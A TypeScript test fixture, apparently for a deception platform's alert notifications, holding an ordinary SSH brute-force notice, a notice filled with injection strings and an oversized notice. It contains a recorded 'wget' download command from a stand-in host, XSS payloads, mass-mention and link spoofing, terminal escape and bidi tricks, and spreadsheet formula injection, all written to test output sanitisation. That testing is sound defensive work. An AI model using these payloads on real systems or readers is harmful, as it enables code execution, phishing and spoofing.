/** Notices to send: an ordinary one, one full of an attacker's tricks, one that is far too large. */
import type { Notice } from '../../../src/core/channel.ts';

export const ordinary: Notice = {
  occasion: 'opened',
  incident_id: 'inc-0011223344556677',
  alert_id: 'ALERT-20261124101500-0A1B2C3D4E5F',
  title: '45.9.148.3 guessed the password of root on ssh-dmz-1 after 212 tries',
  attack_type: 'BruteForce',
  risk_score: 9,
  confidence: 0.93,
  source_ip: '45.9.148.3',
  service: 'ssh',
  node_id: 'node-1234567890abcdef',
  node_name: 'ssh-dmz-1',
  related_decoy: '/srv/finance/payroll.xlsx',
  first_seen: '2026-11-24T10:15:00.000Z',
  last_seen: '2026-11-24T10:21:30.500Z',
  event_count: 213,
  reasons: ['212 failed logins from one address in six minutes', 'A login succeeded after them'],
  techniques: ['T1110.001'],
  tactics: ['Credential Access'],
  facts: {
    account: 'root',
    password: 'Winter2026!',
    attempts: 213,
    node_count: 1,
    labels: ['rack 3'],
    group: 'Lyon',
    timezone: 'Europe/Paris',
    place: { country: 'RU', asn: 64_500, network_owner: 'Example Hosting' },
    protocol: 'ssh',
    vulnerability: null,
  },
  payload: 'uname -a; wget http://203.0.113.9/x.sh',
  advice: 'Block the address and look where else it logged in.',
  link: 'https://decoyverse.example.com/incidents/inc-0011223344556677?tab=why&from=mail',
  acknowledge: 'https://decoyverse.example.com/acknowledge#WyJ1c2VyLTEiXQ.c2lnbmF0dXJl',
};

/** One value with everything that means something to some receiver. */
export const tricks = [
  '<!channel> <users/all> <!here|x> <@U12345> <#C1|general> <http://evil.example/a|bank> @everyone @here @channel @all',
  '<at>Admin</at> <script>alert(1)</script> <img src=x onerror=alert(2)> "><b>bold</b> &lt;',
  '[click](http://evil.example/b) ![x](https://evil.example/c.png) **bold** _it_ ~~no~~ `code` ```block``` # head > quote',
  'http://evil.example/d https://evil.example www.evil.example evil.example \\\\evil.example\\share file://evil.example/e',
  'javascript:alert(3) mailto:a@evil.example tel:+123 {{DATE(2026-01-01T00:00:00Z)}} ${env} @{triggerBody()} /start #tag',
  'esc\u001b[31mred\u001b]8;;http://evil.example\u0007link nul\u0000 bell\u0007 cr\r\nlf bidi\u202egnp.exe\u202c \u2066iso\u2069 zw\u200b\u200d\ufeff tag\u{e0041} c1\u009b31m ls\u2028ps\u2029',
  'lone\ud83d half\udc00 zalgo z\u0300\u0301\u0302\u0303\u0304\u0305\u0306 fullwidth＠all',
].join(' ');

const hostile = (start: string): string => `${start}${tricks}`;

export const hostileNotice: Notice = {
  ...ordinary,
  occasion: 'worse',
  title: hostile('=1+2|cmd '),
  attack_type: 'Injection',
  source_ip: hostile('+host '),
  service: hostile('@svc '),
  node_name: hostile('-node '),
  related_decoy: hostile('＝decoy '),
  facts: {
    account: hostile('=user '),
    password: hostile('+password '),
    attempts: 3,
    node_count: 2,
    labels: [hostile('@label ')],
    group: hostile('-group '),
    timezone: 'No/Such_Zone',
    place: { country: hostile('=country '), asn: 1, network_owner: hostile('+owner ') },
    protocol: hostile('-protocol '),
    vulnerability: {
      id: hostile('=id '),
      title: hostile('@title '),
      product: 'x',
      kev: true,
      strength: 'exploit',
    },
  },
  asset: {
    name: hostile('=name '),
    owner: hostile('+owner '),
    role: hostile('@role '),
    location: hostile('-location '),
  },
  reasons: [hostile('=HYPERLINK("http://evil.example","x") '), hostile('\tTAB ')],
  techniques: ['<!everyone>', '`T1`'],
  tactics: ['\u202etactic'],
  payload: hostile("=cmd|' /C calc'!A0 "),
  advice: hostile('- '),
  link: 'https://decoyverse.example.com/incidents/inc-1?a="><script>&b=<x>',
};

const huge = (sample: string): string => sample.repeat(Math.ceil(60_000 / sample.length));

/** Fills every field far beyond what any receiver takes; `sample` is repeated. */
export const hugeNotice = (sample: string): Notice => ({
  ...ordinary,
  title: huge(sample),
  attack_type: huge(sample),
  source_ip: huge(sample),
  service: huge(sample),
  node_name: huge(sample),
  related_decoy: huge(sample),
  facts: {
    account: huge(sample),
    password: huge(sample),
    attempts: 1e9,
    node_count: 64,
    labels: Array.from({ length: 100 }, () => huge(sample)),
    group: huge(sample),
    timezone: 'UTC',
    place: { country: huge(sample), asn: 2 ** 32, network_owner: huge(sample) },
    protocol: huge(sample),
    vulnerability: { id: huge(sample), title: huge(sample), product: 'x', strength: 'probe' },
  },
  asset: { name: huge(sample), owner: huge(sample), role: huge(sample), location: huge(sample) },
  reasons: Array.from({ length: 50 }, () => huge(sample).slice(0, 5000)),
  techniques: Array.from({ length: 100 }, () => sample.repeat(20)),
  tactics: Array.from({ length: 100 }, () => sample.repeat(20)),
  payload: huge(sample),
  advice: huge(sample),
});

/** Characters that must never reach a reader as they are. */
export const unseen = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\u2028\u2029]/u;
